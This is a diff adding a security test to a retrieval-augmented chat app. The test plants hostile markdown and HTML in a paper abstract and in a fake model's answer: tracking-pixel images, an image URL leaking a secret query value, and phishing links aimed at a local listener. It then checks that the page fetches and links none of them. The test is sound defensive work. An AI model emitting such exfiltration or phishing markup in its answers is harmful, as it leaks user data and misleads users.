@@ -8,6 +8,7 @@ import re
 import shutil
 import subprocess
 import sys
+import threading
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
@@ -398,3 +399,100 @@ def test_first_start_builds_the_index_then_serves(tmp_path: Path) -> None:
         _, err = proc.communicate(timeout=30)
     assert "no index yet: building it from the bundled corpus" in err
     assert (tmp_path / "index" / "chroma").is_dir()
+
+
+class Listener:
+    """A loopback HTTP server that records every request (an exfiltration target)."""
+
+    def __init__(self) -> None:
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        self.paths: list[str] = []
+        listener = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                listener.paths.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+def test_markup_from_abstracts_and_models_is_shown_as_text(
+    browser: Any, tmp_path: Path, llm_server: FakeLLM
+) -> None:
+    """Issue 19.2: an image in a quoted abstract or in a model's answer loads nothing, and no
+    link of theirs appears; the app's own source links still do."""
+    from tests.helpers import write_jsonl
+
+    listener = Listener()
+    hostile = (
+        f"Retrieval augmented generation answers questions over papers with citations. "
+        f"![pixel]({listener.url}/abstract.png) <img src='{listener.url}/tag.png'> "
+        f"[Verify your account]({listener.url}/phish) and see {listener.url}/bare for more."
+    )
+    papers = [{"title": "Hostile Retrieval Paper", "abstract": hostile}]
+    (tmp_path / "corpus").mkdir()
+    write_jsonl(tmp_path / "corpus" / "hostile.jsonl", papers)
+    old_default = llm_server.default
+    llm_server.default = (
+        f"It answers questions with citations [1]. ![leak]({listener.url}/model.png?q=secret) "
+        f"<img src='{listener.url}/model-tag.png'> [Click here]({listener.url}/model-link)"
+    )
+    port = free_port()
+    env = {
+        **{k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "OPENAI_"))},
+        "RAG_INDEX_DIR": str(tmp_path / "index"),
+        "RAG_CORPUS_DIR": str(tmp_path / "corpus"),
+        "RAG_MIN_RELEVANCE": "0",
+        "RAG_CONFIDENT_RELEVANCE": "0",
+    }
+    try:
+        for name, extra in (
+            ("extractive", {}),
+            ("llm", {"OPENAI_API_KEY": "sk-x", "OPENAI_BASE_URL": llm_server.base_url}),
+        ):
+            proc = subprocess.Popen(
+                [sys.executable, "-m", "rag", "serve", "--port", str(port)],
+                env={**env, **extra},
+                cwd=tmp_path,
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+            try:
+                wait_http(f"http://127.0.0.1:{port}", proc)
+                page = open_page(browser, f"http://127.0.0.1:{port}")
+                ask_in_page(page, "How do retrieval augmented generation systems cite papers?")
+                page.locator("#sources").get_by_text("Hostile Retrieval Paper").first.wait_for(
+                    timeout=60_000
+                )
+                page.wait_for_timeout(1500)  # any image would have been fetched by now
+                chat = page.locator("#chat")
+                hrefs = chat.locator("a").evaluate_all("els => els.map(e => e.href)")
+                assert not [h for h in hrefs if listener.url in h], (name, hrefs)
+                assert chat.locator("img").count() == 0 or not [
+                    s
+                    for s in chat.locator("img").evaluate_all("els => els.map(e => e.src)")
+                    if listener.url in s
+                ]
+                text = chat.inner_text()
+                assert "Verify your account" in text or "Click here" in text, name
+                sources = page.locator("#sources a").evaluate_all("els => els.map(e => e.href)")
+                assert any("huggingface.co/papers" in h for h in sources)  # our own links stay
+                assert not [h for h in sources if listener.url in h]
+                page.close()
+            finally:
+                proc.terminate()
+                proc.wait(timeout=30)
+        assert listener.paths == []
+    finally:
+        llm_server.default = old_default
+        listener.server.shutdown()
